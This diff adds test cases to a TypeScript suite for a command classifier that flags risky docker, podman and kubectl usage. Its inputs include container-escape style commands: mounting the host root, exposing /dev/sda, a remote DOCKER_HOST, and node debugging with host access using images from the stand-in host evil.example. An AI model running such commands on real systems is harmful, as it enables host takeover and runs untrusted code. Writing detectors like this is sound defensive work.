@@ -31,6 +31,33 @@ const cases: Readonly<Record<string, readonly string[]>> = {
     (verb) => `${verb} docker.io/library/nginx:latest engine=docker hostNetwork=true hostProcesses=true`,
   ),
   'sudo -u root /usr/bin/docker pull nginx': ['pull docker.io/library/nginx:latest engine=docker'],
+  'DOCKER_HOST=tcp://192.0.2.1:2375 docker pull a': ['pull docker.io/library/a:latest engine=docker'],
+  'for i in 1 2; do docker pull a; done': ['pull docker.io/library/a:latest engine=docker'],
+  'if ! docker pull a; then (podman pull b); fi': [
+    'pull docker.io/library/a:latest engine=docker',
+    'pull docker.io/library/b:latest engine=podman',
+  ],
+  'cmd.exe /c docker.exe pull a': ['pull docker.io/library/a:latest engine=docker'],
+  'powershell -NoProfile -Command docker pull a': ['pull docker.io/library/a:latest engine=docker'],
+  'docker run --device /dev/sda:/dev/x a': ['create', 'start'].map(
+    (verb) => `${verb} docker.io/library/a:latest engine=docker hostPaths=/dev/sda`,
+  ),
+  'docker run -v //./:/h a': ['create', 'start'].map(
+    (verb) => `${verb} docker.io/library/a:latest engine=docker hostPaths=/`,
+  ),
+  'docker compose -f a.yml up -d': ['create', 'start'].map((verb) => `${verb} unknown engine=docker target=a.yml`),
+  'docker-compose exec web sh -c id': ['exec - engine=docker container=web command=sh -c id'],
+  'docker compose ps': [],
+  'docker service create --name x --mount type=bind,src=/,dst=/h evil.example/a:1 sh': [
+    'create evil.example/a:1 engine=docker hostPaths=/ target=x command=sh',
+  ],
+  'docker service update --image evil.example/a:2 web': ['change evil.example/a:2 engine=docker target=web'],
+  'docker service ls': [],
+  'docker stack deploy -c stack.yml web': ['create unknown engine=docker target=stack.yml'],
+  'podman kube play pod.yaml': ['create unknown engine=podman target=pod.yaml'],
+  'kubectl debug node/n1 -it --image=evil.example/a:1': [
+    'create evil.example/a:1 pod=node/n1 hostPaths=/ hostNetwork=true hostProcesses=true hostIpc=true target=node/n1',
+  ],
   'docker image rm a b': [
     'delete docker.io/library/a:latest engine=docker',
     'delete docker.io/library/b:latest engine=docker',
